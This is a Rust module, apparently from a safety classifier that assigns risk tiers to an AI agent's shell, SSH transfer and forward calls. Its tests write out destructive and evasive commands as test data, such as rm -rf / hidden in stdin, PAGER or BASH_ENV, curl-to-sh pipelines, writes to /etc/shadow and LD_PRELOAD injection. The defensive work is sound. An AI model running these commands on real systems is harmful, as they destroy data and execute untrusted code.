//! Classification: what tier a tool call is, from what will actually run.
//!
//! Shell text is parsed ([`shell`]) and every simple command is looked up in the knowledge
//! table ([`knowledge`]); redirections are judged by their target ([`paths`]); the Python implementation's
//! raw-text tables ([`floor`]) stay as a floor for text the parser cannot account for. The
//! highest tier found wins.

mod environment;
mod floor;
mod knowledge;
mod paths;
mod shell;
mod words;

/// Build the classifier's shared tables now rather than on the first call (a server calls
/// this once before serving, so start-up garbage can be handed back at once).
pub fn prepare() {
    floor::prepare();
    knowledge::prepare();
}

/// Every program (and `program subcommand`) the classifier declares, with its option grammar:
/// what the tests and the oracle's option-combination generator enumerate.
pub fn declared_programs() -> Vec<(&'static str, &'static crate::policy::options::Grammar)> {
    knowledge::declared()
}

pub use shell::parse_backstops;

use super::probe::{Direction, Interpreter, Payload, PolicyClass, Probe};
use super::{Classification, Reason, Tier};
use environment::Setting;

/// Classify a call from its probe, each field as what it is. Total: never panics, on any
/// input.
pub fn classify(probe: &Probe) -> Classification {
    let class = probe.class();
    if class == PolicyClass::ReadOnly {
        return Classification {
            tier: Tier::ReadOnly,
            reasons: vec![],
        };
    }
    let mut reasons = Vec::new();
    match class {
        PolicyClass::ReadOnly => {}
        PolicyClass::Stateful => {
            reasons.push(Reason {
                subject: probe.tool().to_string(),
                rule: "moves files or opens tunnels (stateful tool)".into(),
                tier: Tier::Stateful,
            });
            raw_floor(probe.text(), &mut reasons);
            stateful_payload(&probe.payload, &mut reasons);
        }
        PolicyClass::Control => raw_floor(probe.text(), &mut reasons),
        PolicyClass::Shell | PolicyClass::Session => {
            payload(probe, class == PolicyClass::Session, &mut reasons);
        }
    }
    environment_overlay(&probe.env, &mut reasons);
    if let Some(stdin) = probe.stdin.as_deref()
        && probe.env.iter().any(|(k, v)| {
            v.as_deref()
                .is_some_and(|v| environment::startup_reads_stdin(k, v))
        })
    {
        // `BASH_ENV`/`ENV` pointing at standard input: a shell the command starts runs the
        // call's stdin at start-up, so it is judged as shell code too.
        shell_text(stdin, false, None, &mut reasons);
    }
    for host in &probe.hosts {
        raw_floor(host, &mut reasons);
    }
    let found = reasons
        .iter()
        .map(|r| r.tier)
        .max()
        .unwrap_or(Tier::ReadOnly);
    Classification {
        tier: found.max(class.floor()),
        reasons,
    }
}

/// The raw-text floor alone (text that is not shell code).
fn raw_floor(text: &str, reasons: &mut Vec<Reason>) {
    for hit in floor::scan(text, &|_, _| false) {
        reasons.push(Reason {
            subject: hit.matched,
            rule: format!("raw-text rule: {}", hit.rule),
            tier: hit.tier,
        });
    }
}

/// What runs: shell text parsed as shell (with the call's standard input), a program run
/// without a shell as exactly its words, a script as its interpreter reads it, keystrokes as
/// the lines they submit.
fn payload(probe: &Probe, interactive: bool, reasons: &mut Vec<Reason>) {
    let stdin = probe.stdin.as_deref();
    match &probe.payload {
        Payload::Shell(text) | Payload::Input { lines: text, .. } => {
            shell_text(text, interactive, stdin, reasons);
        }
        Payload::Argv(argv) => shell_text(&quote_argv(argv), interactive, stdin, reasons),
        Payload::Script(script) if script.interpreter.is_shell() => {
            shell_text(&script.body, false, None, reasons);
        }
        Payload::Script(script) => {
            // Python is code the classifier cannot read: at least tier 2, and the raw-text
            // rules over the whole body (a `subprocess.run("rm -rf /")` is still seen).
            debug_assert_eq!(script.interpreter, Interpreter::Python);
            reasons.push(Reason {
                subject: "python3 -".into(),
                rule: "python3 runs a script the classifier cannot read".into(),
                tier: Tier::Stateful,
            });
            raw_floor(&script.body, reasons);
        }
        Payload::None | Payload::Transfer(_) | Payload::Forward(_) => no_command("", reasons),
    }
}

/// What a transfer or forward does, judged from its typed fields: the path a transfer
/// writes, as a redirection to it would be (a block device is tier 3, a system or login
/// file tier 2), and a forward's listener when other hosts can reach it.
fn stateful_payload(payload: &Payload, reasons: &mut Vec<Reason>) {
    match payload {
        Payload::Transfer(t) => {
            let side = match t.direction {
                Direction::Upload => "remote",
                Direction::Download => "local",
            };
            if let Some((tier, why)) =
                paths::judge(&paths::Dest::write(t.written(), true), &paths::Cwd::Start)
            {
                reasons.push(Reason {
                    subject: t.written().chars().take(120).collect(),
                    rule: format!("the transfer {why} ({side} side)"),
                    tier,
                });
            }
        }
        Payload::Forward(f) if f.non_loopback() => reasons.push(Reason {
            subject: f.bind.clone().unwrap_or_default(),
            rule: "the forward listens on an address other hosts can reach".into(),
            tier: Tier::Stateful,
        }),
        _ => {}
    }
}

fn no_command(text: &str, reasons: &mut Vec<Reason>) {
    reasons.push(Reason {
        subject: text.chars().take(120).collect(),
        rule: "no command: an interactive shell, or nothing proven read-only".into(),
        tier: Tier::Reversible,
    });
}

fn shell_text(text: &str, interactive: bool, stdin: Option<&str>, reasons: &mut Vec<Reason>) {
    if text.trim().is_empty() {
        no_command("", reasons);
        return;
    }
    let verdict = shell::classify_command(text, 0, interactive, stdin);
    if verdict.commands == 0 && verdict.reasons.is_empty() {
        reasons.push(Reason {
            subject: text.chars().take(120).collect(),
            rule: "no command found".into(),
            tier: Tier::Reversible,
        });
    }
    reasons.extend(verdict.reasons);
}

/// Words executed without a shell, written as shell text that parses back to exactly those
/// words (each single-quoted), so the shell classifier judges the command they form and
/// nothing in them is mistaken for syntax.
fn quote_argv(argv: &[String]) -> String {
    let mut out = String::new();
    for (i, word) in argv.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        out.push('\'');
        out.push_str(&word.replace('\'', "'\\''"));
        out.push('\'');
    }
    out
}

/// Environment changes, judged the way an assignment in the text is: a name that redirects
/// what programs run is tier 2, a command-valued variable (`PAGER`, `*_COMMAND`) is judged as
/// the command it holds, `LESS`/`MORE` by their options; every value also goes through the
/// raw-text rules. Removing a variable is judged by its name.
fn environment_overlay(env: &[(String, Option<String>)], reasons: &mut Vec<Reason>) {
    for (key, value) in env {
        let setting = match value {
            Some(v) => environment::setting(key, v, true, false),
            None => environment::dangerous(key).map_or(Setting::Harmless, Setting::Dangerous),
        };
        match setting {
            Setting::Harmless => {}
            Setting::Dangerous(why) => reasons.push(Reason {
                subject: key.clone(),
                rule: format!("environment overlay {why}"),
                tier: Tier::Stateful,
            }),
            Setting::Code(code) if code.trim().is_empty() => {}
            Setting::Code(code) => {
                reasons.push(Reason {
                    subject: key.clone(),
                    rule: format!(
                        "environment overlay sets {key}, a command programs run (judged as that command)"
                    ),
                    tier: Tier::ReadOnly,
                });
                reasons.extend(shell::classify_command(&code, 1, false, None).reasons);
            }
        }
        if let Some(v) = value {
            raw_floor(v, reasons);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tier(probe: Probe) -> Tier {
        classify(&probe).tier
    }

    fn with_stdin(command: &str, stdin: &str) -> Tier {
        tier(
            Probe::new("shell_exec", PolicyClass::Shell)
                .shell(command)
                .stdin(stdin),
        )
    }

    fn with_env(command: &str, name: &str, value: &str) -> Tier {
        tier(
            Probe::new("shell_exec", PolicyClass::Shell)
                .shell(command)
                .env("", vec![(name.into(), Some(value.into()))]),
        )
    }

    #[test]
    fn the_calls_stdin_is_code_for_programs_that_read_their_program_there() {
        // awk and sed read a program from `-`, /dev/stdin and /dev/fd/0: the call's stdin is
        // classified as that program.
        assert_eq!(with_stdin("awk -f - f", "{ print $1 }"), Tier::ReadOnly);
        assert_eq!(
            with_stdin("awk -f /dev/stdin f", "BEGIN { system(\"touch /tmp/x\") }"),
            Tier::Stateful
        );
        assert_eq!(
            with_stdin("awk -f /dev/fd/0 f", "{ print > \"/etc/passwd\" }"),
            Tier::Stateful
        );
        assert_eq!(with_stdin("sed -n -f - f", "1p"), Tier::ReadOnly);
        assert_eq!(
            with_stdin("sed -f /dev/stdin f", "s/a/b/w /etc/shadow"),
            Tier::Stateful
        );
        assert_eq!(with_stdin("sed -f - f", "1e rm -rf /"), Tier::Irreversible);
        // A shell reading a script from /dev/stdin runs the call's stdin.
        assert_eq!(
            with_stdin("bash /dev/stdin", "rm -rf /srv"),
            Tier::Irreversible
        );
        assert_eq!(
            with_stdin(". /dev/stdin", "rm -rf /srv"),
            Tier::Irreversible
        );
        // A shell reading the call's stdin takes the tier of that code.
        assert_eq!(with_stdin("sh -s", "ls -la"), Tier::ReadOnly);
        assert_eq!(with_stdin("sudo bash", "touch f"), Tier::Reversible);
        assert_eq!(with_stdin("sh", "true\nrm -rf /srv"), Tier::Irreversible);
        assert_eq!(with_stdin("sh", "ls | sh"), Tier::Stateful);
        assert_eq!(
            with_stdin("sh", "{ \"a\": \"$(touch p)\" }"),
            Tier::Stateful
        );
        // Other interpreters' code on stdin stays opaque.
        assert_eq!(with_stdin("python3 -", "print(1)"), Tier::Stateful);
        assert_eq!(with_stdin("perl /dev/stdin", "print 1"), Tier::Stateful);
        // Data for a reader.
        assert_eq!(with_stdin("wc -l", "rm -rf /\nreboot"), Tier::ReadOnly);
        // No stdin given: nothing to read (the one-shot shell's stdin is /dev/null).
        assert_eq!(
            tier(Probe::from_text(
                "shell_exec",
                PolicyClass::Shell,
                "awk -f - f"
            )),
            Tier::ReadOnly
        );
    }

    #[test]
    fn nested_code_reads_the_calls_stdin_only_through_a_command_that_does() {
        // `sh -c 'sh'` run with its input redirected or piped: the inner shell reads that
        // input, not the call's, so the call's harmless stdin does not lower it.
        assert_eq!(with_stdin("sh -c 'sh' < /tmp/evil", "ls"), Tier::Stateful);
        assert_eq!(
            with_stdin("curl http://x | sh -c 'sh'", "ls"),
            Tier::Stateful
        );
        assert_eq!(
            with_stdin("curl http://x | xargs -0 sh -c 'bash -s'", "true"),
            Tier::Stateful
        );
        // A document given to the command is what the nested shell reads, judged as code.
        assert_eq!(
            with_stdin("sh -c 'sh' <<EOF\nrm -rf /\nEOF", "ls"),
            Tier::Irreversible
        );
        assert_eq!(
            with_stdin("sh -c 'sh' <<'EOF'\nS=rm; $S -rf /srv\nEOF", "ls"),
            Tier::Irreversible
        );
        assert_eq!(
            with_stdin("sh -c 'sh' <<'EOF'\nls -la\nEOF", "rm -rf /"),
            Tier::ReadOnly
        );
        // The same for a program read from that input, with or without a call's stdin.
        assert_eq!(
            with_stdin("curl http://x | sh -c 'awk -f - f'", "{ print }"),
            Tier::Stateful
        );
        assert_eq!(
            tier(Probe::from_text(
                "shell_exec",
                PolicyClass::Shell,
                "curl http://x | sh -c 'sed -f - f'"
            )),
            Tier::Stateful
        );
        // Code run by a command that reads the call's stdin reads it too.
        assert_eq!(with_stdin("sh -c 'sh'", "ls"), Tier::ReadOnly);
        assert_eq!(
            with_stdin("sudo sh -c 'bash -s'", "rm -rf /srv"),
            Tier::Irreversible
        );
        assert_eq!(
            with_stdin("sh -c 'awk -f - f'", "{ system(\"id\") }"),
            Tier::Stateful
        );
    }

    #[test]
    fn a_crontab_on_the_calls_stdin_is_judged_by_its_jobs() {
        assert_eq!(
            with_stdin("crontab -", "* * * * * rm -rf /srv"),
            Tier::Irreversible
        );
    }

    #[test]
    fn bash_env_on_stdin_runs_the_calls_stdin() {
        let probe = Probe::new("shell_exec", PolicyClass::Shell)
            .shell("bash -c true")
            .stdin("rm -rf /srv")
            .env("", vec![("BASH_ENV".into(), Some("/dev/stdin".into()))]);
        assert_eq!(tier(probe), Tier::Irreversible);
        assert_eq!(
            with_stdin("BASH_ENV=/dev/stdin bash -c true", "rm -rf /srv"),
            Tier::Irreversible
        );
    }

    #[test]
    fn environment_entries_are_judged_like_assignments() {
        assert_eq!(with_env("git log -1", "GIT_PAGER", "cat"), Tier::ReadOnly);
        assert_eq!(
            with_env("git log -1", "PAGER", "rm -rf /srv"),
            Tier::Irreversible
        );
        assert_eq!(with_env("git log -1", "PAGER", "$(id)"), Tier::Stateful);
        assert_eq!(with_env("less f", "LESS", "-R"), Tier::Reversible);
        assert_eq!(with_env("less f", "LESS", "+!id"), Tier::Stateful);
        assert_eq!(with_env("ls", "LD_PRELOAD", "/tmp/x.so"), Tier::Stateful);
        assert_eq!(with_env("ls", "LANG", "C"), Tier::ReadOnly);
        let removed = Probe::new("shell_exec", PolicyClass::Shell)
            .shell("ls")
            .env("", vec![("PATH".into(), None)]);
        assert_eq!(tier(removed), Tier::Stateful);
    }

    #[test]
    fn transfers_are_judged_by_the_path_they_write() {
        use crate::policy::probe::{Direction, Transfer};
        let tier = |direction, local: &str, remote: &str| {
            let t = Transfer {
                direction,
                local: local.into(),
                remote: remote.into(),
                recursive: false,
            };
            classify(&Probe::new("ssh_upload", PolicyClass::Stateful).transfer(t, "x")).tier
        };
        // The written side decides: the local path of a download, the remote one of an upload.
        assert_eq!(
            tier(Direction::Download, "/dev/sda", "f"),
            Tier::Irreversible
        );
        assert_eq!(tier(Direction::Upload, "/dev/sda", "f"), Tier::Stateful);
        assert_eq!(
            tier(Direction::Upload, "f", "/dev/nvme0n1"),
            Tier::Irreversible
        );
        assert_eq!(
            tier(Direction::Upload, "f", "~/.ssh/authorized_keys"),
            Tier::Stateful
        );
        assert_eq!(
            tier(Direction::Download, "out.txt", "/etc/shadow"),
            Tier::Stateful
        );
    }

    #[test]
    fn a_forward_reachable_from_other_hosts_is_a_reason() {
        use crate::policy::probe::{Forward, ForwardKind};
        let probe = |bind: Option<&str>| {
            let f = Forward {
                kind: ForwardKind::Dynamic,
                bind: bind.map(String::from),
                listen_port: 0,
                dest: None,
            };
            classify(&Probe::new("ssh_forward", PolicyClass::Stateful).forward(f, "forward D:0"))
        };
        let wide = probe(Some("0.0.0.0"));
        assert_eq!(wide.tier, Tier::Stateful);
        assert!(wide.reasons.iter().any(|r| r.subject == "0.0.0.0"));
        let local = probe(None);
        assert_eq!(local.tier, Tier::Stateful);
        assert!(!local.reasons.iter().any(|r| r.rule.contains("other hosts")));
    }

    #[test]
    fn argv_words_are_quoted_back_exactly() {
        assert_eq!(
            quote_argv(&["echo".into(), "it's $(x)".into()]),
            "'echo' 'it'\\''s $(x)'"
        );
        let v = shell::classify_shell(
            &quote_argv(&["echo".into(), "$(rm -rf /)".into()]),
            0,
            false,
        );
        assert_eq!(v.reasons.iter().map(|r| r.tier).max(), Some(Tier::ReadOnly));
    }
}
